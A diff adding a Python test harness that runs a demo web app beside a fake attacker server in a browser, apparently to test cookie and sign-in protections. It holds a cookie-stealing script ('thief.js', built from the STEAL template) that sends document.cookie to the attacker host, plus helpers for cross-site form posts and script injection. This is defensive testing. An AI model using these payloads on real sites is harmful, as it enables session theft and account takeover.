@@ -1,0 +1,109 @@
+"""A browser, the demo server, and an attacker's server beside it: where a behaviour is tried."""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+from flask import Flask, request
+from playwright.sync_api import Browser, Page
+
+from demo_server.demo_users import DEMO_USERS
+from demo_server.notebook.live.demo_app import build_app
+from tests.browser.conftest import WAIT_MS
+from tests.browser.page_actions import expect_signed_in, sign_in
+from tests.browser.recording_server import TOKENS, RecordedRequest, RecordingServer
+
+STEAL = 'fetch("{}taken?" + document.cookie, {{mode: "no-cors"}})'
+
+
+def attacker_app() -> Flask:
+    """Make the attacker's app: an empty page, a script that steals, a page that sets a cookie."""
+    app = Flask("attacker")
+
+    @app.get("/")
+    @app.get("/taken")
+    def empty() -> str:
+        return "<!doctype html><title>An attacker</title>"
+
+    @app.get("/set")
+    def set_cookie() -> tuple[str, dict[str, str]]:
+        return empty(), {"Set-Cookie": request.args["cookie"]}
+
+    @app.get("/thief.js")
+    def stealing_script() -> tuple[str, dict[str, str]]:
+        return STEAL.format(request.host_url), {"Content-Type": "text/javascript"}
+
+    return app
+
+
+@dataclass(frozen=True)
+class Scenario:
+    """A browser's page, the server under test, and an attacker's server beside it."""
+
+    page: Page
+    app: Flask
+    server: RecordingServer
+    attacker: RecordingServer
+
+    def sign_in(self) -> None:
+        """Sign in as Alice."""
+        self.page.goto(self.server.url)
+        sign_in(self.page)
+        expect_signed_in(self.page)
+
+    def post_from(self, address: str, name: str) -> RecordedRequest:
+        """Let a page at ``address`` post the sign-in form of ``name`` without a click."""
+        self.page.goto(address)
+        fields = {"id_give": name, "pw_give": DEMO_USERS[name]}
+        with self.page.expect_navigation():
+            self.page.evaluate(POST, [f"{self.server.url}/sign_in", fields])
+        return self.server.last_request("/sign_in")
+
+    def follow_from(self, address: str, target: str) -> None:
+        """Follow a link to ``target`` on a page at ``address``."""
+        self.page.goto(address)
+        self.page.evaluate(APPEND, ["a", {"href": target, "textContent": "a link"}])
+        with self.page.expect_navigation():
+            self.page.get_by_role("link", name="a link").click()
+
+    def inject(self, **script: str) -> None:
+        """Put a script into the page, by its textContent or its src."""
+        self.page.evaluate(APPEND, ["script", script])
+
+    def kept_token(self) -> Any:
+        """Return the cookie that opens the protected page, as the browser keeps it."""
+        (kept,) = [one for one in self.page.context.cookies() if one["name"] in TOKENS]
+        return kept
+
+
+POST = """([action, fields]) => {
+  const form = Object.assign(document.createElement("form"), { action, method: "post" });
+  for (const [name, value] of Object.entries(fields))
+    form.append(Object.assign(document.createElement("input"), { name, value }));
+  document.body.append(form);
+  form.submit();
+}"""
+APPEND = """([tag, fields]) =>
+  document.body.append(Object.assign(document.createElement(tag), fields))"""
+
+
+@contextmanager
+def open_scenario(
+    browser: Browser, version: str, settings: dict[str, Any], database: Path
+) -> Iterator[Scenario]:
+    """Start both servers, and open a page without a cookie."""
+    own = settings | {"DATABASE": str(database)}
+    app = build_app(version, own, "/private", seeded=True)
+    with (
+        RecordingServer(app) as server,
+        RecordingServer(attacker_app()) as attacker,
+        browser.new_context() as context,
+    ):
+        context.set_default_timeout(WAIT_MS)
+        page = context.new_page()
+        faults: list[str] = []
+        page.on("pageerror", lambda error: faults.append(str(error)))
+        yield Scenario(page, app, server, attacker)
+        assert faults == []
